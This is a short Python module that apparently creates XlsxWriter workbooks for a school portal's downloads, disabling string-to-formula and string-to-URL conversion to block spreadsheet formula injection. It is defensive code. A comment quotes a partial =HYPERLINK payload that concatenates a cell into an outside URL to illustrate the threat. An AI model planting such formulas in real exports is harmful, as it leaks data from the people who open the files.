"""The one way the portal creates an XlsxWriter workbook for a user to download."""

import xlsxwriter

# XlsxWriter's write() turns a string starting with «=» into a live formula and one that looks
# like a URL into a hyperlink. Exports carry text typed by schools and teachers (a position, a
# topic, a school's name): a position «=HYPERLINK("http://…?"&B3,…)» would become a formula
# beside a tutor's name in every downloaded directory (issue 15). Text stays text; a formula the
# portal means (a list check's source) is passed to its own call and is not affected.
SAFE_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False}


def workbook(output, **options) -> xlsxwriter.Workbook:
    """A workbook writing to `output` in memory, in which no user's text becomes a formula or
    a link; `options` add XlsxWriter's own (e.g. `constant_memory`)."""
    return xlsxwriter.Workbook(output, {"in_memory": True, **options, **SAFE_OPTIONS})
